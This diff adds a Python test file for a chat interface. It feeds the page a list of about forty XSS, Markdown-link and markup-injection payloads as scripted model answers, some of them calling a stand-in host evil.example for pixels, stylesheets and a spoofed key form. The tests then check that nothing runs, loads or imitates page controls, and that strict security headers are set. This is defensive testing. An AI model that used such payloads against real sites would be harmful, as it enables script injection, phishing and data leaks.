@@ -1,0 +1,133 @@
+"""What a model says is text. It cannot run, load, imitate or move anything."""
+
+from stage import test, until
+
+ATTACKS = [
+    "<script>window.owned = 1; alert(1)</script>",
+    "<img src=x onerror=\"window.owned = 1; alert(1)\">",
+    "<svg onload=\"window.owned = 1\"><script>window.owned = 1</script></svg>",
+    "<svg><animate onbegin=\"window.owned = 1\" attributeName=x dur=1s></svg>",
+    "<iframe srcdoc=\"<script>parent.owned = 1</script>\"></iframe>",
+    "<iframe src=\"javascript:parent.owned=1\"></iframe>",
+    "<object data=\"data:text/html,<script>parent.owned=1</script>\"></object>",
+    "<math><mtext></mtext><style><img src=x onerror=\"window.owned=1\"></style></math>",
+    "<noscript><p title=\"</noscript><img src=x onerror=window.owned=1>\">",
+    "<details open ontoggle=\"window.owned = 1\">open</details>",
+    "<body onload=\"window.owned = 1\">",
+    "<style>body { display: none } #send { background: url(https://evil.example/style) }</style>",
+    "<link rel=stylesheet href=https://evil.example/sheet.css>",
+    "<meta http-equiv=refresh content=\"0;url=https://evil.example/meta\">",
+    "<base href=https://evil.example/>",
+    "<form action=https://evil.example/form id=spoof><input name=key autofocus><button id=send>Send</button></form>",
+    "<video src=https://evil.example/video autoplay></video>",
+    "<a href=\"javascript:window.owned=1\" id=click-raw>raw link</a>",
+    "[inline link](javascript:window.owned=1)",
+    "[spaced link](java\nscript:window.owned=1)",
+    "[entity link](&#106;avascript:window.owned=1)",
+    "[data link](data:text/html,<script>window.owned=1</script>)",
+    "[vbs link](vbscript:owned)",
+    "<javascript:window.owned=1>",
+    "[into the page](#new)",
+    "[to the api](/api/v1/session)",
+    "[reference link][attack]\n\n[attack]: javascript:window.owned=1",
+    "![tracking pixel](https://evil.example/pixel.png)",
+    "![relative pixel](/api/v1/pixel.png)",
+    "![svg](data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='window.owned=1'/>)",
+    "![x](https://evil.example/a.png\" onerror=\"window.owned=1)",
+    "[![linked pixel](https://evil.example/linked.png)](https://evil.example/)",
+    "<div id=\"title\" class=\"notice\" style=\"position:fixed;inset:0;z-index:99\">Enter your key</div>",
+    "`<script>window.owned = 1</script>`",
+    "```html\" onmouseover=\"window.owned=1\n<script>window.owned = 1</script>\n```",
+    "| a | <script>window.owned=1</script> |\n| --- | --- |\n| <img src=x onerror=window.owned=1> | b |",
+    "<a href=\"https://evil.example\" target=_self onclick=window.owned=1>self</a>",
+    "> <script>window.owned = 1</script>",
+    "- <img src=x onerror=window.owned=1>",
+    "\u202eevil\u202c and {{constructor.constructor('window.owned=1')()}} and ${window.owned=1}",
+]
+
+INSIDE_ANSWERS = """() => {
+    const log = document.getElementById('log'), found = [];
+    const allowed = new Set(['P','BR','HR','H2','H3','H4','H5','H6','UL','OL','LI','BLOCKQUOTE','PRE','CODE','EM','STRONG','DEL',
+        'TABLE','THEAD','TBODY','TR','TH','TD','A','INPUT','IMG','DIV','FIGURE','FIGCAPTION','SPAN','BUTTON','SVG','USE','B','I',
+        'S','SUP','SUB','KBD']);
+    for (const element of log.querySelectorAll('.body *')) {
+        const name = element.tagName.toUpperCase();
+        if (!allowed.has(name)) found.push(name);
+        if (name === 'BUTTON' && element.dataset.action !== 'copy-code') found.push('a button of its own');
+        if (name === 'INPUT' && (element.type !== 'checkbox' || !element.disabled)) found.push('a field');
+        for (const { name: attribute, value } of element.attributes) {
+            if (attribute.startsWith('on') || attribute === 'style' || attribute === 'id') found.push(attribute);
+            if (attribute === 'src' && !/^data:image\\/(png|jpeg|gif|webp);/.test(value)) found.push('src ' + value);
+        }
+        if (name === 'A' && element.hasAttribute('href')) {
+            const url = new URL(element.href);
+            if (!['https:', 'http:', 'mailto:'].includes(url.protocol)) found.push('href ' + element.href);
+            if (url.origin === location.origin) found.push('into the page: ' + element.href);
+            if (element.target !== '_blank' || !element.rel.includes('noopener')) found.push('opens here: ' + element.href);
+        }
+    }
+    for (const id of ['title', 'send', 'new', 'text', 'notice'])
+        if (document.querySelectorAll('#' + id).length !== 1) found.push('second #' + id);
+    return found;
+}"""
+
+
+def hostile(stage, answer):
+    """A window in which the scripted model gives `answer`, and another answer is waited for."""
+    server = stage.serve(speed=20, model=stage.model(answer))
+    window = stage.window().go(server)
+    window.choose("scripted")
+    return server, window
+
+
+def unharmed(server, window):
+    until("no trace in the page", lambda: window.page.evaluate(INSIDE_ANSWERS) == [])
+    assert window.page.evaluate("window.owned") is None, "the model's script ran"
+    strangers = [url for url in window.requests if not url.startswith((server.url, "data:", "about:"))]
+    assert not strangers, f"requests to {strangers}"
+    assert window.page.is_visible("#send") and window.page.is_visible("#text")
+
+
+@test("a model's answer that tries to inject script runs nothing, loads nothing and imitates nothing")
+def injection(stage):
+    server, window = hostile(stage, "\n\n".join(ATTACKS) + "\n\nThe end.")
+    window.ask("<img src=x onerror=window.owned=1> Attack me.")
+    until("all of it", lambda: "The end." in window.page.inner_text("#log") or window.answers.count() == 1)
+    window.page.wait_for_timeout(500)
+    unharmed(server, window)
+    assert window.prompts == ["<img src=x onerror=window.owned=1> Attack me."]
+    for link in window.page.locator("#log .body a:not([href])").all():
+        link.click(force=True)
+    assert window.page.url.startswith(server.url)
+    window.picture("8-hostile")
+    window.reload()
+    window.await_state("complete")
+    unharmed(server, window)
+
+
+@test("each of the attacks alone runs nothing either")
+def injection_alone(stage):
+    server, window = hostile(stage, "")
+    model = stage.models[0]
+    window.send("Begin.")
+    until("an answer", lambda: window.answers.count() == 1)
+    for number, attack in enumerate(ATTACKS):
+        until("idle", lambda: not window.page.evaluate("document.documentElement.hasAttribute('data-running')"))
+        model.answer = f"{attack}\n\nEnd {number}."
+        window.send(f"Attack {number}")
+        until(f"answer {number}", lambda: window.answers.count() == number + 2)
+    until("idle", lambda: not window.page.evaluate("document.documentElement.hasAttribute('data-running')"))
+    unharmed(server, window)
+
+
+@test("the page's own answer headers forbid what the page does not need")
+def headers(stage):
+    import urllib.request
+    server = stage.serve()
+    with urllib.request.urlopen(server.url + "/", timeout=10) as response:
+        policy = response.headers["Content-Security-Policy"]
+        assert response.headers["X-Content-Type-Options"] == "nosniff"
+    for rule in ("default-src 'none'", "script-src 'self'", "style-src 'self'", "connect-src 'self'", "base-uri 'none'",
+                 "form-action 'none'", "frame-ancestors 'none'"):
+        assert rule in policy, f"{rule} is missing from {policy}"
+    assert "unsafe" not in policy
